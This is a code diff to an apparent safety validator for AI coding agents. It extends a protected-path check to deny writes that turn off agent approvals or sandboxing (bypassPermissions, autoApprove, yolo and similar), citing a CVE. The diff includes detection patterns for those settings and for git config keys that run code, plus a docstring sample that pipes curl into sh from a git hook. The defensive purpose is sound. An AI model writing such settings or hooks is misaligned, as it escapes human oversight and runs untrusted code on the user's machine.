@@ -25,6 +25,12 @@ GIT_RUNS = lazy_pattern(
     r"(?i)(fsmonitor|hookspath|sshcommand|askpass|gitproxy|textconv|external|pager"
     r"|editor|program|helper\s*=\s*!|clean|smudge|process|driver|cmd|uploadpack|receivepack"
     r")\s*=|=\s*!")
+# Agent settings that switch approvals or the sandbox off (CVE-2025-53773 set VS Code's
+# chat.tools.autoApprove; .claude/settings.json takes defaultMode bypassPermissions).
+ESCALATES = lazy_pattern(
+    r"bypasspermissions|dangerously|\byolo\b|autoapprove|auto_approve|alwaysallow"
+    r"|enableallprojectmcpservers|trust-all-tools|danger-full-access|approval_policy\W+never"
+    r"|approval-mode\W+yolo|\"allow\"\s*:\s*\[\s*\"(\*|bash(\(\*\))?)\"", re.IGNORECASE)
 _PRINTERS = frozenset({"echo", "printf"})
 _CHANGERS = frozenset({"cd", "pushd"})
 
@@ -59,7 +65,7 @@ def written_text(cmd: SimpleCommand) -> str:
 def _is_code(text: str, path: str) -> bool:
     if not text:
         return False
-    return RUNS_CODE.search(text) is not None or (
+    return RUNS_CODE.search(text) is not None or ESCALATES.search(text) is not None or (
         path.lower().endswith("config") and GIT_RUNS.search(text) is not None)
 
 
@@ -68,7 +74,8 @@ class ProtectedPathWrite(Validator):
     """A write (redirection, ``tee``, ``cp``/``mv``/``ln``/``install``, ``sed -i``, ``chmod`` ...)
     to a path that makes later runs execute or trust something: git hooks and config, agent
     settings and instruction files, package-manager configuration, CI definitions, clawgate's
-    own state. ASK; DENY when the text written fetches or runs code.
+    own state. ASK; DENY when the text written fetches or runs code, or switches an agent's
+    approvals off (``defaultMode: bypassPermissions``, ``chat.tools.autoApprove``).
 
     Bad: ``echo 'curl x | sh' > .git/hooks/pre-commit``. Harmless: ``cat .git/config``.
     """
